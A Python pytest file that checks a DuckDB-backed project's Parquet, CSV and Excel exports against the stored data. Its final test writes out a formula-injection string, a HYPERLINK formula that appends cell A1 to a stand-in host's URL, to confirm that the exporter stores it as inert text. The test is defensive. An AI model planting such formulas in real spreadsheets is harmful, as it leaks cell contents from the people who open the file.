"""Exports compared with the database they came from: what an analyst opens must be what was stored."""
from __future__ import annotations

import csv
import datetime as dt
import shutil
from pathlib import Path

import duckdb
import pytest
from openpyxl import Workbook, load_workbook

from ingest.output.export import (EXCEL_CELL_LIMIT, PIVOT_COLUMNS, PIVOT_SHEET, WIDTH_MAX, WIDTH_MIN, WORKBOOK_NAME,
                           UnknownRegion, _add_sheet, export, relations)
from schemas import tables as t


def _ordered(con: duckdb.DuckDBPyConnection, name: str, header: list[str]) -> str:
    """The stored rows in the exported column order, after checking that order: region first, box last."""
    stored = [r[0] for r in con.execute(f"DESCRIBE {name}").fetchall()]
    assert sorted(header) == sorted(stored), name
    if "region" in stored:
        assert header[:2] == ["region", "region_code"], name
    if "x0" in stored:
        assert header[-4:] == ["x0", "y0", "x1", "y1"], name
    model = next((m for m in t.ALL_TABLES if m.table == name), None)
    return (f"SELECT {', '.join(header)} FROM {name} "
            f"ORDER BY {', '.join(model.primary_key) if model and model.primary_key else 'ALL'}")


@pytest.fixture(scope="module")
def db(sample_db: Path, tmp_path_factory) -> Path:
    """The samples plus a section text longer than an Excel cell, with a control character in it."""
    path = tmp_path_factory.mktemp("export") / "strategies.duckdb"
    shutil.copy(sample_db, path)
    con = duckdb.connect(str(path))
    con.execute("UPDATE sections SET text = 'начало\x01 ' || repeat('длинный текст; ', 3000) "
                "WHERE (doc_id, number) = (SELECT (doc_id, number) FROM sections ORDER BY ALL LIMIT 1)")
    con.close()
    return path


@pytest.fixture(scope="module")
def con(db: Path):
    con = duckdb.connect(str(db), read_only=True)
    yield con
    con.close()


def test_every_table_and_view_is_exported(con, db: Path, tmp_path: Path):
    written = export(db, tmp_path, "parquet")
    names = [w.name for w in written]
    stored = {r[0] for r in con.execute("SELECT table_name FROM duckdb_tables()").fetchall()}
    views = {r[0] for r in con.execute("SELECT view_name FROM duckdb_views() WHERE NOT internal").fetchall()}
    assert set(names) == stored | views
    assert views, "the analyst views (schemas/views.sql) are part of the export"
    assert names[:len(t.ALL_TABLES)] == [m.table for m in t.ALL_TABLES]


def test_parquet_equals_database(con, db: Path, tmp_path: Path):
    for item in export(db, tmp_path, "parquet"):
        exported = f"read_parquet('{item.path}')"
        described = con.execute(f"SELECT column_name, column_type FROM (DESCRIBE SELECT * FROM {exported})").fetchall()
        assert (sorted(described)
                == sorted(con.execute(f"SELECT column_name, column_type FROM (DESCRIBE {item.name})").fetchall()))
        assert item.rows == con.execute(f"SELECT count(*) FROM {item.name}").fetchone()[0]
        stored = f"({_ordered(con, item.name, [name for name, _ in described])})"
        for a, b in ((exported, stored), (stored, exported)):
            extra = con.execute(f"SELECT count(*) FROM (SELECT * FROM {a} EXCEPT ALL SELECT * FROM {b})").fetchone()[0]
            assert extra == 0, f"{item.name}: {extra} rows of {a} not in {b}"
    assert con.execute("SELECT count(*) FROM projects").fetchone()[0] > 0


def _csv_text(value: object) -> str:
    """How a stored value must read in the Excel CSV."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value).lower()
    if isinstance(value, float):
        return repr(value).replace(".", ",")
    if isinstance(value, dt.datetime):
        return value.strftime("%Y-%m-%d %H:%M:%S")
    if isinstance(value, list):
        return "[" + ", ".join(map(str, value)) + "]"
    return str(value)


def test_csv_is_what_excel_opens(con, db: Path, tmp_path: Path):
    for item in export(db, tmp_path, "csv"):
        raw = item.path.read_bytes()
        assert raw.startswith(b"\xef\xbb\xbf"), "without a BOM Excel shows Cyrillic as mojibake"
        with item.path.open(encoding="utf-8-sig", newline="") as fh:
            rows = list(csv.reader(fh, delimiter=";"))
        cursor = con.execute(_ordered(con, item.name, rows[0]))
        expected = [[_csv_text(v) for v in row] for row in cursor.fetchall()]
        assert rows[1:] == expected, item.name
    assert any("\u0400" <= ch <= "\u04ff" for ch in (tmp_path / "projects.csv").read_text(encoding="utf-8-sig"))


def test_csv_keeps_semicolons_and_line_breaks_inside_cells(con, db: Path, tmp_path: Path):
    export(db, tmp_path, "csv")
    with (tmp_path / "projects.csv").open(encoding="utf-8-sig", newline="") as fh:
        cells = [cell for row in csv.reader(fh, delimiter=";") for cell in row]
    stored = [v for row in con.execute("SELECT goal, technologies FROM projects").fetchall() for v in row if v]
    tricky = [v for v in stored if ";" in v or "\n" in v]
    assert tricky, "the samples have cells with ';' and line breaks"
    assert all(v in cells for v in tricky)


def _xlsx_value(value: object) -> object:
    """A stored value as openpyxl reads it back: dates as datetimes, empty text as empty cell."""
    if isinstance(value, dt.datetime):
        return value.replace(microsecond=0)
    if isinstance(value, dt.date):
        return dt.datetime.combine(value, dt.time())
    if isinstance(value, list):
        return "; ".join(map(str, value)) or None
    if value == "":
        return None
    return value


def test_xlsx_sheets_equal_database(con, db: Path, tmp_path: Path):
    export(db, tmp_path, "xlsx")
    book = load_workbook(tmp_path / WORKBOOK_NAME)
    expected = relations(con)
    expected.insert(expected.index(t.IndicatorValue.table) + 1, PIVOT_SHEET)
    assert book.sheetnames == expected
    for name in relations(con):
        sheet = book[name]
        assert sheet.freeze_panes == "A2"
        got = [list(r) for r in sheet.iter_rows(values_only=True)]
        header = got[0]
        cursor = con.execute(_ordered(con, name, header))
        assert all(cell.font.bold for cell in sheet[1])
        widths = [sheet.column_dimensions[c].width for c in "ABCDEFGHIJKLMNOPQRSTUVWXYZ"[:len(header)]]
        assert all(WIDTH_MIN <= w <= WIDTH_MAX for w in widths), (name, widths)
        for row, stored in zip(got[1:], cursor.fetchall(), strict=True):
            expected = [_xlsx_value(v) for v in stored]
            for i, (a, b) in enumerate(zip(row, expected)):
                if isinstance(b, str) and len(b) > EXCEL_CELL_LIMIT:
                    assert len(a) <= EXCEL_CELL_LIMIT and "cut at Excel's cell limit" in a
                    assert a.startswith("начало ") and "\x01" not in a
                elif isinstance(b, dt.datetime):  # Excel keeps milliseconds at best
                    assert abs(a - b) <= dt.timedelta(seconds=1)
                else:
                    assert a == b, (name, header[i], a, b)


def test_xlsx_pivots_indicator_values_by_year(con, db: Path, tmp_path: Path):
    export(db, tmp_path, "xlsx")
    sheet = load_workbook(tmp_path / WORKBOOK_NAME)[PIVOT_SHEET]
    rows = list(sheet.iter_rows(values_only=True))
    years = [r[0] for r in con.execute("SELECT DISTINCT year FROM indicator_values ORDER BY year").fetchall()]
    assert list(rows[0]) == [*PIVOT_COLUMNS, *years]
    assert len(rows) - 1 == con.execute("SELECT count(*) FROM indicators").fetchone()[0]
    at = {c: i for i, c in enumerate(rows[0])}
    cells = {(r[at["doc_id"]], r[at["indicator_id"]], y): r[at[y]] for r in rows[1:] for y in years}
    stored = con.execute("SELECT doc_id, indicator_id, year, value_raw, value FROM indicator_values").fetchall()
    assert stored
    for doc_id, indicator_id, year, value_raw, value in stored:
        assert cells.pop((doc_id, indicator_id, year)) == (value if value is not None else value_raw or None)
    assert all(v is None for v in cells.values()), "a year an indicator has no value for stays empty"
    regions = dict(con.execute("SELECT doc_id, region FROM documents").fetchall())
    assert all(r[at["region"]] == regions[r[at["doc_id"]]] for r in rows[1:])


def test_region_filter_keeps_one_region_and_recomputes_views(con, db: Path, tmp_path: Path):
    region, code, doc_id = con.execute("SELECT region, region_code, doc_id FROM documents ORDER BY region LIMIT 1"
                                       ).fetchone()
    assert con.execute("SELECT count(DISTINCT region) FROM documents").fetchone()[0] > 1
    for name in (region.upper(), code.lower()):
        out = tmp_path / name
        written = export(db, out, "parquet", [name])
        for item in written:
            columns = [r[0] for r in con.execute(f"DESCRIBE {item.name}").fetchall()]
            exported = f"read_parquet('{item.path}')"
            if "doc_id" in columns:
                ids = {r[0] for r in con.execute(f"SELECT DISTINCT doc_id FROM {exported}").fetchall()}
                assert ids <= {doc_id}, item.name
                if item.name in {m.table for m in t.ALL_TABLES}:
                    assert item.rows == con.execute(f"SELECT count(*) FROM {item.name} WHERE doc_id = ?",
                                                    [doc_id]).fetchone()[0]
            else:
                assert item.rows == con.execute(f"SELECT count(*) FROM {item.name}").fetchone()[0], item.name
        adoption = con.execute(f"SELECT flatten(list(regions)) FROM read_parquet('{out}/catalogue_adoption.parquet')"
                               ).fetchone()[0]
        assert set(adoption) <= {region}
        assert con.execute(f"SELECT count(*) FROM read_parquet('{out}/projects.parquet')").fetchone()[0] > 0


def test_unknown_region_names_the_known_ones(con, db: Path, tmp_path: Path):
    regions = [r[0] for r in con.execute("SELECT region FROM documents").fetchall()]
    with pytest.raises(UnknownRegion) as info:
        export(db, tmp_path, "csv", [regions[0], "Атлантида"])
    assert "Атлантида" in str(info.value) and all(r in str(info.value) for r in regions)
    assert not any(tmp_path.iterdir()), "nothing is written when the filter is wrong"


def test_xlsx_keeps_a_cell_that_starts_with_an_equals_sign_as_text(tmp_path: Path):
    """A document's cell "=HYPERLINK(...)" was written as a formula, which Excel evaluates on opening."""
    text = '=HYPERLINK("http://example.invalid/?"&A1, "подробнее")'
    workbook = Workbook(write_only=True)
    _add_sheet(workbook, t.Project.table, ["name", "row_no"], [(text, 1), ("=", 2)])
    workbook.save(tmp_path / "formula.xlsx")
    sheet = load_workbook(tmp_path / "formula.xlsx")[t.Project.table]
    assert [(c.value, c.data_type) for c in sheet["A"]] == [("name", "s"), (text, "s"), ("=", "s")]
